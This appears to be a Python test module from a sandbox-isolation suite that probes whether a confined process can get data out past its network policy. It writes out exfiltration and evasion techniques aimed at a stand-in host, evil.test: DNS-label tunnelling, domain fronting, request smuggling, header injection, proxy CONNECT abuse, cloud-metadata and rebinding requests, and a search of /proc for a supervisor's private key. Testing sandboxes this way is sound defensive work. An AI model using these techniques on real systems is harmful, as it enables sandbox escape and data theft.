"""Ways out of a cell that has a policy, past what the policy says; see internet.POLICY.

Without a policy nothing goes out at all, so there these try less than the group network."""
import os
import pathlib
import secrets
import socket
import subprocess

from ..cell import NotApplicable, NotRun
from ..tools import free_port
from ..verdict import probe

GATE, PUBLIC, PUBLIC6, RESOLVER = "198.18.0.1", "93.184.216.10", "2606:2800:220:1::10", "93.184.216.53"
SERVERS = [GATE, RESOLVER, "8.8.8.8", "fd63:6c6f:6973:7465::1", PUBLIC6]
END = "Connection: close\r\n\r\n"


def get(host, path="/NONCE", **more):
    lines = "".join(f"{name}: {value}\r\n" for name, value in more.items())
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{lines}{END}"


def connect(to):
    return f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n"


def arrived(w, attempts, wrong):
    """One that arrives, as something that is WRONG, is too many; outside all of them must."""
    cell, seen = w.speak(*attempts)
    numbers = {n for n in range(len(attempts)) for entry in seen
               if wrong(entry) and f"{cell.nonce}-{n}-" in entry["text"] + entry["sni"]}
    if w.control and len(numbers) < len(attempts):
        cell.out += f"\ndid not arrive: {set(range(len(attempts))) - numbers}".encode()
        return False
    return bool(numbers)


def reaches(says, name, attempts, wrong=lambda entry: True, **how):
    probe(says, name=name, group="egress", **how)(lambda w: arrived(w, attempts, wrong))


def is_evil(entry):
    """It is not for the one host that is allowed there."""
    return "evil.test" in entry["text"] or "evil.test" in entry["sni"]


# ---- names ---------------------------------------------------------------------------------

reaches("asks name servers for a name that no rule mentions", "dns-unlisted",
        [["look_up", "NONCE.evil.test"], *[["ask", s, "NONCE.evil.test", kind] for s in SERVERS for kind in (1, 16)],
         *[["ask", GATE, "NONCE.evil.test", kind] for kind in (5, 12, 15, 28, 33, 65, 255)]])
reaches("has data in labels before a name that is allowed carried out by its lookup", "dns-labels",
        [["look_up", "NONCE.front.test"], ["look_up", "NONCE.wide.test"], ["look_up", "a.NONCE.wide.test"],
         *[["ask", s, f"NONCE.{name}", 16] for s in (GATE, RESOLVER) for name in ("front.test", "wide.test")]])
reaches("has the proxy look up a name that no rule mentions", "dns-proxy",
        [["talk", GATE, 3128, get("NONCE.evil.test", "http://NONCE.evil.test/")],
         ["talk", GATE, 3128, get("NONCE.evil.test"), None, connect("NONCE.evil.test:80")],
         ["socks", GATE, 1080, "NONCE.evil.test", 80, get("NONCE.evil.test")]])
reaches("asks for a name over HTTPS, at a host that is allowed", "dns-https",
        [["talk", "front.test", 443, get("front.test", "/dns-query?dns=AAABAAABAAAAAAAAQ-NONCE"), "front.test"],
         ["talk", "front.test", 80, get("front.test", "/resolve?name=NONCE", Accept="application/dns-json")]])
reaches("sends what is no question to a name server's port", "dns-junk",
        [["datagram", s, 53, "NONCE"] for s in SERVERS] + [["talk", s, 53, "\0@" + "NONCE" * 4] for s in (RESOLVER, PUBLIC)])

# ---- addresses -----------------------------------------------------------------------------

ELSEWHERE = [PUBLIC, PUBLIC6, "10.0.0.5", "169.254.169.254", "fd00:ec2::254", "64:ff9b::a00:5"]
reaches("speaks HTTP or TLS with addresses that no rule names", "address-unlisted",
        [["talk", a, 80, get("front.test")] for a in ELSEWHERE] +
        [["talk", a, 443, get("front.test"), "front.test"] for a in ELSEWHERE[:3]])
reaches("speaks to another port of a host that is allowed", "port-unlisted",
        [["talk", "front.test", port, get("front.test")] for port in (22, 853, 7000, 8080)])
reaches("sends datagrams", "udp-unlisted",
        [["datagram", host, port, "NONCE"] for host in (PUBLIC, PUBLIC6, "front.test") for port in (123, 443, 4500)])
reaches("has data carried by pings", "ping-unlisted",
        [["ping", PUBLIC, ["SOCK_RAW", "SOCK_DGRAM"], "NONCE"]], control="root")
reaches("is led to private addresses by names that are allowed", "private-names",
        [["talk", f"{name}.test", 80, get(f"{name}.test")] for name in
         ("inner", "loop", "meta", "alibaba", "shared", "zero", "meta6", "unique", "loop6", "mapped", "nat64",
          "nat64meta")])
reaches("is led to private addresses by names that are allowed for TCP", "private-tcp",
        [["talk", f"{name}.test", 7000, "NONCE\r\n"] for name in ("inner", "loop", "meta6", "nat64")])
reaches("is led to a private address when a name is asked for again", "rebinding",
        [["again", "rebind.test", 80, get("rebind.test")]], lambda entry: entry["at"] == "10.0.0.5")
reaches("reaches a port of the machine that no rule names", "host-port",
        [["talk", "host.cloister.internal", 8080, get("host.cloister.internal:8080")],
         ["talk", "host.cloister.internal", 22, "NONCE\r\n"], ["talk", "127.0.0.1", 8080, get("127.0.0.1:8080")],
         ["talk", "::1", 8080, get("[::1]:8080")], ["talk", "0.0.0.0", 8080, get("0.0.0.0:8080")],
         ["talk", GATE, 3128, get("127.0.0.1:8080", "http://127.0.0.1:8080/NONCE")]])

# ---- requests ------------------------------------------------------------------------------

reaches("asks a host that is allowed for another one", "fronting-host",
        [["talk", "front.test", 80, get(host)] for host in
         ("evil.test", "evil.test:80", "front.test@evil.test", "evil.test@front.test", "evil.test, front.test",
          "front.test\r\nHost: evil.test", "front.test\x00evil.test", "front.test evil.test")], is_evil)
reaches("asks for another host behind a handshake for one that is allowed", "fronting-tls",
        [["talk", "front.test", 443, get("evil.test"), "front.test"],
         ["talk", "front.test", 443, get("front.test"), "evil.test"],
         ["talk", "front.test", 443, get("evil.test"), "evil.test"],
         ["talk", "front.test", 443, get("evil.test"), ""]], is_evil)
reaches("asks for another host in the request's first line", "fronting-absolute",
        [["talk", "front.test", 80, get("front.test", "http://evil.test/NONCE")],
         ["talk", "front.test", 80, get("evil.test", "http://front.test/NONCE")],
         ["talk", "front.test", 80, get("front.test", "http://front.test@evil.test/NONCE")],
         ["talk", GATE, 3128, get("evil.test", "http://evil.test/NONCE")]], is_evil)
reaches("has TLS for another host passed through unread", "fronting-pinned",
        [["talk", "pinned.test", 443, get("evil.test"), "NONCE.evil.test"],
         ["talk", "pinned.test", 443, get("pinned.test"), "evil.test"],
         ["talk", "pinned.test", 443, get("pinned.test"), ""]], lambda entry: entry["sni"] != "pinned.test")


@probe("asks for another host by HTTP/2's two names for it", name="fronting-h2", group="egress")
def fronting_h2(w):
    try:
        import h2  # noqa: F401
    except ImportError as e:
        raise NotApplicable("Python has no h2") from e
    head = [[":method", "GET"], [":scheme", "https"], [":path", "/NONCE"]]
    heads = ([[":authority", "evil.test"]], [[":authority", "front.test"], ["host", "evil.test"]],
             [[":authority", "evil.test"], ["host", "front.test"]], [["host", "evil.test"]],
             [[":authority", "evil.test@front.test"]],
             [[":authority", "front.test"], ["x", "1\r\nhost: evil.test"]])
    return arrived(w, [["h2", "front.test", [*head, *fields]] for fields in heads], is_evil)


reaches("has the proxy connect it elsewhere", "proxy-connect",
        [["talk", GATE, 3128, get("evil.test"), "evil.test", connect("evil.test:443")],
         ["talk", GATE, 3128, get("evil.test"), None, connect("evil.test:80")],
         ["talk", GATE, 3128, get("evil.test"), None, connect("front.test:80")],
         ["talk", GATE, 3128, get("evil.test"), "front.test", connect("front.test:443")],
         ["talk", GATE, 3128, "evil.test NONCE\r\n", None, connect("front.test:22")],
         ["talk", GATE, 3128, get("evil.test"), None, connect("127.0.0.1:8080")],
         ["talk", GATE, 3128, get("evil.test", "http://evil.test/NONCE"), None, connect(f"{GATE}:3128")],
         ["talk", GATE, 3128, get("evil.test"), None, connect("[::ffff:10.0.0.5]:80")],
         ["socks", GATE, 1080, "evil.test", 80, get("evil.test")],
         ["socks", GATE, 1080, "front.test", 80, get("evil.test")],
         ["socks", GATE, 1080, "169.254.169.254", 80, get("evil.test")]], is_evil)
reaches("follows a redirect to where no rule leads", "redirect",
        [["follow", "front.test", 80, get("front.test", f"/away?to=http://{to}/NONCE")] for to in
         ("evil.test", "169.254.169.254", "inner.test", "127.0.0.1:8080", "[fd00:ec2::254]")],
        lambda entry: "/away" not in entry["text"])
reaches("hides a second request in the first", "smuggling",
        [["talk", "front.test", 80, f"POST /x HTTP/1.1\r\nHost: front.test\r\n{fields}\r\n\r\n{body}" +
          get("evil.test")] for fields, body in
         (("Content-Length: 4\r\nTransfer-Encoding: chunked", "0\r\n\r\n"),
          ("Content-Length: 0\r\nContent-Length: 9", ""),
          ("Transfer-Encoding: xchunked", "0\r\n\r\n"), ("Content-Length: 0\r\nUpgrade: x\r\nConnection: upgrade", ""),
          ("Content-Length : 5", "0\r\n\r\n"), ("X: a\r\n Content-Length: 0", ""), ("Content-Length: 0\n", ""))],
        is_evil)
reaches("goes over to another protocol, on a connection for HTTP", "upgrade",
        [["talk", "front.test", 80, get("front.test", Upgrade=kind).replace("close", "close, upgrade")] for kind in
         ("websocket", "h2c", "NONCE")], lambda entry: "upgrade:" in entry["text"].lower())
reaches("speaks to a server whose certificate is not good", "certificate",
        [["talk", f"{name}.test", 443, get(f"{name}.test"), f"{name}.test"] for name in ("selfsigned", "wrongname")])


@probe("sends a private key in a request", name="secret-body", group="egress")
def secret_body(w):
    key = subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519"], check=True, text=True,
                         capture_output=True).stdout
    w.speak(["talk", "front.test", 80, f"POST /NONCE HTTP/1.1\r\nHost: front.test\r\nContent-Length: {len(key)}\r\n"
             f"{END}{key}"])
    return bool(w.lab.internet().seen(key.splitlines()[1]))


# ---- the machinery ---------------------------------------------------------------------------

@probe("finds the key of the authority that its programs trust", group="egress")
def authority_key(w):
    if w.control:
        key = w.folder("outside") / "key"
        subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", key], check=True)
        w.own(key)
        cell = w.spawn_speaker([["search", str(key.parent)]])
        cell.finish()
        return key.read_bytes().splitlines()[1] in cell.out
    w.need_root("look into a supervisor")
    w.box.need("helpers")
    places = ["/etc/cloister", "/etc/ssl", "/run", "/tmp", "/home", "/var", "/proc/[0-9]*/environ",
              "/proc/[0-9]*/fd/*"]
    cell = w.spawn_speaker([["hold", 0], ["search", *places], ["hold", 30]])
    if not cell.watch(lambda: cell.out.count(b"@held") == 2 or cell.ended(), 10):
        raise NotRun(cell.tail())
    keys = [f.read_bytes() for f in pathlib.Path(f"/proc/{cell.process.pid}/fd").iterdir()
            if os.readlink(f).startswith("/memfd:key")]
    if not keys or b"PRIVATE KEY" not in keys[0]:
        raise NotRun("the key is not where it was")
    return keys[0].splitlines()[1] in cell.out


@probe("gives itself an address", control="root", group="egress")
def own_address(w):
    address = "10." + ".".join(str(1 + secrets.randbelow(254)) for _ in range(3))
    around = ["--net", w.lab.internet().process.pid] if w.control else ()
    cell = w.spawn("add-address", address, around=around)
    pid = cell.pid()
    cell.watch(lambda: cell.said("won") or cell.said("lost"), 2)
    with open(f"/proc/{pid}/net/fib_trie", encoding="ascii") as f:
        return address in f.read()


@probe("marks its packets, or claims addresses of others", control="root", group="egress")
def steer(w):
    return w.run("steer").said("won")


@probe("reaches a port that another cell publishes", group="egress")
def published(w):
    w.box.need("publish")
    token, port = w.token(), free_port()
    server = w.spawn("listen", port, token, publish=port)
    server.pid()
    # The host itself does reach it.
    with socket.create_connection(("127.0.0.1", port), 5) as s:
        s.settimeout(5)
        if s.recv(256) != token.encode():
            raise NotRun("it is not published: " + server.tail())
    return token.encode() in w.run("connect", "tcp", port, "127.0.0.1", "::1", "0.0.0.0", GATE, "198.18.0.2").out
